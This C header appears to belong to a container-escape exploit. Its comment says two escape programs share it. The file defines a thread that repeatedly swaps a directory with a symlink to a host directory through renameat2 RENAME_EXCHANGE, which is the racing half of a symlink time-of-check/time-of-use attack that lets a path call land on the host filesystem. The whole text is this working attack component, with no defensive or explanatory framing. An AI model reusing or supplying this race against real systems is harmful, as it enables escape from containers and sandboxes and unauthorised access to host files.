/* The swap two escape programs race a path call against: a thread keeps
 * exchanging the directory d and d.sym, a symlink to a host directory
 * (renameat2 RENAME_EXCHANGE), until `stop` is set; `flips` counts the swaps. */
#ifndef SWAP_H
#define SWAP_H
#include <linux/fs.h>
#include <stdatomic.h>
#include <sys/syscall.h>
#include <unistd.h>

static atomic_int stop;
static char d[4200], dsym[4200];
static long flips;

static void *swapper(void *arg)
{
    (void)arg;
    while (!atomic_load(&stop))
        if (syscall(SYS_renameat2, AT_FDCWD, d, AT_FDCWD, dsym, RENAME_EXCHANGE) == 0)
            flips++;
    return NULL;
}
#endif
